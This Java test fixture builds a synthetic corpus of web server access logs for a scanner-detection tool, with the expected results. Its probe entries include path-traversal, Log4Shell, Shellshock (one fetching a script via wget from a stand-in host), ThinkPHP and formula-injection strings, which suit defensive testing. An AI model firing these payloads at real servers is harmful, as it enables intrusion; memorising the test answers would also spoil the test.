package org.probehunt.acceptance;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.probehunt.testing.LogFiles;

/**
 * A deterministic corpus of rotated, compressed and archived logs from four sites in four formats,
 * with probing hosts, benign look-alikes, filler visitors and garbage, plus the expected answers.
 */
final class Corpus {
  /** How a site writes its lines. */
  enum Style {
    COMBINED,
    VHOST,
    NGINX,
    EXTRA
  }

  /** One request a host makes; {@code probe} says whether a careful reader calls it a probe. */
  record Req(
      String method,
      String target,
      String protocol,
      int status,
      String referer,
      String ua,
      boolean probe) {}

  static final DateTimeFormatter CLF =
      DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ENGLISH);

  static final String BROWSER =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Safari/537.36";

  final Path root;
  final Random random = new Random(20251001L);

  /** Expected lines of every host that must be flagged, in writing order. */
  final Map<String, List<String>> flaggedLines = new TreeMap<>();

  /** Expected probe count of every flagged host. */
  final Map<String, Integer> flaggedProbes = new TreeMap<>();

  /** Hosts that must not be flagged. */
  final List<String> benignHosts = new ArrayList<>();

  /**
   * Lines written to every clean file or member, by the source's suffix (path under root,
   * ARCHIVE!ENTRY).
   */
  final Map<String, Integer> linesWritten = new LinkedHashMap<>();

  /** Lines of each clean source the parser must reject (garbage). */
  final Map<String, Integer> garbageWritten = new LinkedHashMap<>();

  Corpus(Path root) {
    this.root = root;
  }

  // ---- probing and benign hosts ---------------------------------------------------------------

  static Req get(String target) {
    return new Req("GET", target, "HTTP/1.1", 404, "-", BROWSER, true);
  }

  static Req ok(String target) {
    return new Req("GET", target, "HTTP/1.1", 200, "-", BROWSER, false);
  }

  static Req ua(String target, String ua, boolean probe) {
    return new Req("GET", target, "HTTP/1.1", 200, "-", ua, probe);
  }

  /** The probing hosts and what each sends (probes and a few ordinary pages). */
  static Map<String, List<Req>> probers() {
    Map<String, List<Req>> m = new LinkedHashMap<>();
    m.put(
        "surf.wil.net",
        List.of(
            new Req("GET", "/cgi-bin/phf", "HTTP/1.0", 404, "-", "-", true),
            new Req("GET", "/cgi-bin/test-cgi", "HTTP/1.0", 404, "-", "-", true),
            new Req("GET", "/cgi-bin/handler", "HTTP/1.0", 404, "-", "-", true),
            ok("/"),
            ok("/index.html")));
    m.put("11.51.100.10", List.of(get("/.env"), get("/.git/config"), ok("/robots.txt")));
    m.put(
        "11.51.100.11",
        List.of(
            new Req(
                "POST",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "HTTP/1.1",
                404,
                "-",
                "Go-http-client/1.1",
                true),
            ok("/")));
    m.put(
        "11.0.113.20",
        List.of(
            new Req(
                "POST",
                "/cgi-bin/luci/;stok=/locale?form=country",
                "HTTP/1.1",
                404,
                "-",
                "Go-http-client/1.1",
                true),
            new Req("POST", "/HNAP1/", "HTTP/1.1", 404, "-", "-", true),
            new Req("POST", "/boaform/admin/formLogin", "HTTP/1.1", 404, "-", "-", true)));
    m.put("11.0.113.30", List.of(get("/cgi-bin/../../../../etc/passwd"), ok("/about/")));
    m.put("11.0.113.31", List.of(get("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd"), ok("/")));
    m.put(
        "11.0.113.32",
        List.of(get("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"), ok("/")));
    m.put("11.0.113.40", List.of(ua("/", "${jndi:ldap://x/a}", true), ok("/news/")));
    m.put(
        "11.0.113.41",
        List.of(
            new Req(
                "GET",
                "/cgi-bin/status",
                "HTTP/1.1",
                404,
                "() { :; }; /bin/bash -c id",
                BROWSER,
                true),
            ok("/")));
    m.put(
        "11.0.113.44",
        List.of(
            ua("/cgi-bin/test.cgi", "() { :; }; /bin/bash -c \"wget http://x.example/a.sh\"", true),
            ok("/")));
    m.put(
        "11.0.113.42",
        List.of(
            ua("/item.php?id=1", "sqlmap/1.7.2#stable (https://sqlmap.org)", true),
            ua("/item.php?id=2", "sqlmap/1.7.2#stable (https://sqlmap.org)", true)));
    m.put(
        "11.0.113.43",
        List.of(
            ua("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", true),
            ua("/index.html", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000004)", true)));
    m.put("a1.scanfarm.net", List.of(get("/phpmyadmin/"), get("/manager/html"), ok("/")));
    m.put("a2.scanfarm.net", List.of(get("/phpMyAdmin/index.php"), ok("/favicon.ico")));
    m.put(
        "p3.probe.co.jp",
        List.of(
            new Req(
                "POST",
                "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
                "HTTP/1.1",
                404,
                "-",
                BROWSER,
                true)));
    m.put(
        "11.0.2.200",
        List.of(
            get(
                "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"),
            ok("/")));
    m.put("2a00:db8::bad", List.of(get("/.env"), ok("/")));
    // Attacker text that must not run as a formula in a spreadsheet.
    m.put(
        "11.51.100.77",
        List.of(
            new Req("GET", "/.git/config", "HTTP/1.1", 404, "@SUM(1+1)", "=HYPERLINK(1)", true),
            new Req("GET", "/+cmd", "HTTP/1.1", 404, "-1+2", "+calc", false)));
    // Hostile names: no header or file name may carry them.
    m.put("mail@evil.example", List.of(get("/cgi-bin/phf")));
    m.put("a,b.hostile.example", List.of(get("/cgi-bin/phf")));
    m.put("<x>.hostile.example", List.of(get("/cgi-bin/test-cgi")));
    return m;
  }

  /** Look-alikes: hosts whose requests mention probe words but probe nothing. */
  static Map<String, List<Req>> lookAlikes() {
    Map<String, List<Req>> m = new LinkedHashMap<>();
    m.put("11.0.2.101", List.of(ok("/photos/phf-2019.jpg")));
    m.put("11.0.2.102", List.of(ok("/docs/handler.html")));
    m.put("11.0.2.103", List.of(ok("/search?q=phf")));
    m.put(
        "11.0.2.104",
        List.of(
            new Req(
                "GET",
                "/index.html",
                "HTTP/1.1",
                200,
                "http://forum.example/thread?about=/cgi-bin/phf",
                BROWSER,
                false)));
    m.put("11.0.2.105", List.of(ua("/", "phfinder-bot/1.0 (+http://phfinder.example/bot)", false)));
    m.put("11.0.2.106", List.of(ok("/blog/env-variables")));
    m.put("11.0.2.107", List.of(ok("/git/config-guide.html")));
    m.put("11.0.2.108", List.of(ok("/passwd-reset")));
    m.put("11.0.2.109", List.of(ok("/shop/handler-gloves")));
    m.put("11.0.2.110", List.of(ok("/docs/test-cgi-explained.html")));
    m.put(
        "11.0.2.111",
        List.of(
            ok("/wp-login.php"),
            new Req(
                "POST",
                "/wp-login.php",
                "HTTP/1.1",
                302,
                "https://www.site.example/wp-login.php",
                BROWSER,
                false),
            new Req(
                "GET",
                "/wp-admin/",
                "HTTP/1.1",
                200,
                "https://www.site.example/wp-login.php",
                BROWSER,
                false),
            new Req(
                "POST",
                "/wp-admin/admin-ajax.php",
                "HTTP/1.1",
                200,
                "https://www.site.example/wp-admin/",
                BROWSER,
                false),
            new Req(
                "POST",
                "/xmlrpc.php",
                "HTTP/1.1",
                200,
                "-",
                "WordPress/6.6.2; https://www.site.example",
                false)));
    m.put("crawl-1.search.example", List.of(ok("/robots.txt"), ok("/sitemap.xml"), ok("/")));
    return m;
  }

  /** A user agent with quotes: Apache writes them as \\", nginx as \\x22. */
  static final String QUOTED_UA = "Mozilla/5.0 (compatible; \"Quoted\" Fetcher/2.0)";

  static final String[] PAGES = {
    "/",
    "/index.html",
    "/about/",
    "/images/logo.png",
    "/css/site.css",
    "/js/app.js",
    "/news/2025/10/01.html",
    "/contact/",
    "/products/?page=2",
    "/favicon.ico"
  };

  // ---- line writers ---------------------------------------------------------------------------

  static String line(Style style, String host, OffsetDateTime t, Req r, int bytes) {
    String time = "[" + CLF.format(t) + "]";
    String request = r.method() + " " + r.target() + " " + r.protocol();
    String size = bytes == 0 && style != Style.NGINX ? "-" : String.valueOf(bytes);
    return switch (style) {
      case COMBINED ->
          host
              + " - - "
              + time
              + " \""
              + esc(request)
              + "\" "
              + r.status()
              + " "
              + size
              + " \""
              + esc(r.referer())
              + "\" \""
              + esc(r.ua())
              + "\"";
      case VHOST ->
          "www.site-b.example:443 "
              + host
              + " - - "
              + time
              + " \""
              + esc(request)
              + "\" "
              + r.status()
              + " "
              + size
              + " \""
              + esc(r.referer())
              + "\" \""
              + esc(r.ua())
              + "\"";
      case NGINX ->
          host
              + " - - "
              + time
              + " \""
              + nginx(request)
              + "\" "
              + r.status()
              + " "
              + size
              + " \""
              + nginx(r.referer())
              + "\" \""
              + nginx(r.ua())
              + "\"";
      case EXTRA ->
          host
              + " - - "
              + time
              + " \""
              + esc(request)
              + "\" "
              + r.status()
              + " "
              + size
              + " \""
              + esc(r.referer())
              + "\" \""
              + esc(r.ua())
              + "\" \"11.0.113.250, 10.0.0.1\" 0."
              + (100 + bytes % 900);
    };
  }

  private static String esc(String s) {
    return s.replace("\\", "\\\\").replace("\"", "\\\"");
  }

  private static String nginx(String s) {
    return s.replace("\"", "\\x22");
  }

  // ---- building -------------------------------------------------------------------------------

  /** A file (or member) being assembled: its lines and their hosts. */
  final class Log {
    final String source;
    final Style style;
    final ZoneOffset offset;
    OffsetDateTime clock;
    final List<String> lines = new ArrayList<>();
    int garbage;

    Log(String source, Style style, ZoneOffset offset, OffsetDateTime start) {
      this.source = source;
      this.style = style;
      this.offset = offset;
      this.clock = start;
    }

    void add(String host, Req r, boolean expectFlagged) {
      clock = clock.plusSeconds(1 + random.nextInt(40));
      String l =
          line(
              style,
              host,
              clock,
              r,
              r.status() == 200 ? 100 + random.nextInt(9000) : random.nextInt(400));
      lines.add(l);
      if (expectFlagged) {
        flaggedLines.computeIfAbsent(host, h -> new ArrayList<>()).add(l);
        if (r.probe()) {
          flaggedProbes.merge(host, 1, Integer::sum);
        }
      }
    }

    void filler(int n) {
      for (int i = 0; i < n; i++) {
        String host = "10.1." + random.nextInt(4) + "." + (1 + random.nextInt(250));
        String page = PAGES[random.nextInt(PAGES.length)];
        add(host, random.nextInt(8) == 0 ? ua(page, QUOTED_UA, false) : ok(page), false);
      }
    }

    void garbage(String l) {
      lines.add(l);
      garbage++;
    }

    /** Registers the finished log as a clean source. */
    List<String> done() {
      linesWritten.put(source, lines.size());
      garbageWritten.put(source, garbage);
      return lines;
    }
  }

  /**
   * Spreads every prober's requests over the given logs (each prober's requests reach several files
   * and sites) and every look-alike's too, with filler around them.
   */
  void spread(List<Log> logs, int fillerPerLog) {
    Map<String, List<Req>> probers = probers();
    Map<String, List<Req>> benign = lookAlikes();
    benignHosts.addAll(benign.keySet());
    for (Log log : logs) {
      log.filler(fillerPerLog / 2);
    }
    int k = 0;
    for (Map.Entry<String, List<Req>> e : probers.entrySet()) {
      for (Req r : e.getValue()) {
        logs.get(k++ % logs.size()).add(e.getKey(), r, true);
      }
      // Every prober comes back for an ordinary page in another file.
      logs.get(k++ % logs.size()).add(e.getKey(), ok("/"), true);
    }
    for (Map.Entry<String, List<Req>> e : benign.entrySet()) {
      for (Req r : e.getValue()) {
        logs.get(k++ % logs.size()).add(e.getKey(), r, false);
      }
    }
    for (Log log : logs) {
      log.filler(fillerPerLog / 2);
    }
  }

  static OffsetDateTime day(int month, int day, ZoneOffset offset) {
    return OffsetDateTime.of(2025, month, day, 0, 0, 0, 0, offset);
  }

  /** Writes the clean part of the corpus: every format, codec and container, plus garbage lines. */
  void writeClean() throws IOException {
    ZoneOffset jst = ZoneOffset.ofHours(9);
    ZoneOffset utc = ZoneOffset.UTC;
    ZoneOffset est = ZoneOffset.ofHours(-5);
    ZoneOffset ist = ZoneOffset.ofHoursMinutes(5, 30);
    Log a0 = new Log("site-a/access_log", Style.COMBINED, jst, day(10, 1, jst));
    Log a1 = new Log("site-a/access_log.1", Style.COMBINED, jst, day(9, 30, jst));
    Log a2 = new Log("site-a/access_log.2.gz", Style.COMBINED, jst, day(9, 29, jst));
    Log a3 =
        new Log("site-a/access_log.3", Style.COMBINED, jst, day(9, 28, jst)); // gzip, no suffix
    Log b0 = new Log("site-b/other_vhosts_access.log", Style.VHOST, utc, day(10, 1, utc));
    Log b1 = new Log("site-b/other_vhosts_access.log.1.bz2", Style.VHOST, utc, day(9, 30, utc));
    Log c1 = new Log("site-c/access.log-20251001.xz", Style.NGINX, est, day(10, 1, est));
    Log c2 = new Log("site-c/access.log-20251002.zst", Style.NGINX, est, day(10, 2, est));
    Log d0 = new Log("site-d/access.log", Style.EXTRA, ist, day(10, 1, ist));
    Log d1 = new Log("site-d/access.log.1", Style.EXTRA, ist, day(9, 30, ist)); // CRLF
    Log t1 =
        new Log(
            "archive/2025-09.tar.gz!logs/access_log-20250910",
            Style.COMBINED,
            jst,
            day(9, 10, jst));
    Log t2 =
        new Log(
            "archive/2025-09.tar.gz!logs/other_vhosts_access.log-20250911",
            Style.VHOST,
            utc,
            day(9, 11, utc));
    Log z1 = new Log("archive/2025-08.zip!access.log", Style.COMBINED, jst, day(8, 20, jst));
    List<Log> all = List.of(a0, a1, a2, a3, b0, b1, c1, c2, d0, d1, t1, t2, z1);
    spread(all, 120);

    // Garbage in the Apache file: binary, half lines, empty lines, a 20 KB line.
    a1.garbage("\u0001\u0002binary\u00ff\u00fe junk");
    a1.garbage("10.9.9.9 - - [30/Sep/2025:23:59:");
    a1.garbage("");
    a1.garbage("");
    a1.garbage("10.9.9.9 - - [30/Sep/2025:23:59:59 +0900] \"GET /" + "x".repeat(20_000));
    a1.garbage("just some words");

    LogFiles.plain(root.resolve(a0.source), a0.done());
    LogFiles.plain(root.resolve(a1.source), a1.done());
    LogFiles.gzip(
        root.resolve(a2.source),
        a2.done().subList(0, a2.lines.size() / 2),
        a2.lines.subList(a2.lines.size() / 2, a2.lines.size()));
    LogFiles.gzip(root.resolve(a3.source), a3.done());
    LogFiles.plain(root.resolve(b0.source), b0.done());
    LogFiles.bzip2(root.resolve(b1.source), b1.done());
    LogFiles.xz(root.resolve(c1.source), c1.done());
    LogFiles.zstd(root.resolve(c2.source), c2.done());
    LogFiles.plain(root.resolve(d0.source), d0.done());
    Files.write(
        root.resolve(d1.source),
        (String.join("\r\n", d1.done()) + "\r\n").getBytes(StandardCharsets.UTF_8));
    LogFiles.tarGz(
        root.resolve("archive/2025-09.tar.gz"),
        List.of("logs/access_log-20250910", "logs/README", "logs/other_vhosts_access.log-20250911"),
        List.of(
            t1.done(), List.of("These are the September logs.", "Ask the web team."), t2.done()));
    LogFiles.zip(root.resolve("archive/2025-08.zip"), List.of("access.log"), List.of(z1.done()));
    // Binary garbage above is written as UTF-8 text; write it again as raw bytes.
    byte[] raw = Files.readAllBytes(root.resolve(a1.source));
    byte[] marker = "\u0001\u0002binary\u00ff\u00fe junk".getBytes(StandardCharsets.UTF_8);
    byte[] bytes = {
      1, 2, 'b', 'i', 'n', 'a', 'r', 'y', (byte) 0xff, (byte) 0xfe, ' ', 'j', 'u', 'n', 'k'
    };
    Files.write(root.resolve(a1.source), replace(raw, marker, bytes));
  }

  private static byte[] replace(byte[] data, byte[] from, byte[] to) {
    outer:
    for (int i = 0; i + from.length <= data.length; i++) {
      for (int j = 0; j < from.length; j++) {
        if (data[i + j] != from[j]) {
          continue outer;
        }
      }
      byte[] result = new byte[data.length - from.length + to.length];
      System.arraycopy(data, 0, result, 0, i);
      System.arraycopy(to, 0, result, i, to.length);
      System.arraycopy(data, i + from.length, result, i + to.length, data.length - i - from.length);
      return result;
    }
    throw new IllegalStateException("marker not found");
  }

  /** Lines of filler hosts only, for the damaged files. */
  List<String> fillerLines(Style style, int n, OffsetDateTime start) {
    Log log = new Log("damaged", style, start.getOffset(), start);
    log.filler(n);
    return log.lines;
  }

  /** Damaged sources: a truncated gzip, a bzip2 with a corrupt block, an empty file named .gz. */
  void writeDamaged(Path dir) throws IOException {
    ZoneOffset jst = ZoneOffset.ofHours(9);
    byte[] gz = LogFiles.gzip(LogFiles.text(fillerLines(Style.COMBINED, 400, day(9, 27, jst))));
    Files.createDirectories(dir);
    Files.write(dir.resolve("access_log.5.gz"), java.util.Arrays.copyOf(gz, gz.length * 2 / 3));
    Path bz =
        LogFiles.bzip2(
            dir.resolve("other_vhosts_access.log.4.bz2"),
            fillerLines(Style.VHOST, 3000, day(9, 26, ZoneOffset.UTC)));
    byte[] b = Files.readAllBytes(bz);
    for (int i = b.length / 2; i < b.length / 2 + 16; i++) {
      b[i] ^= 0x5a;
    }
    Files.write(bz, b);
    Files.write(dir.resolve("access_log.6.gz"), new byte[0]);
  }
}
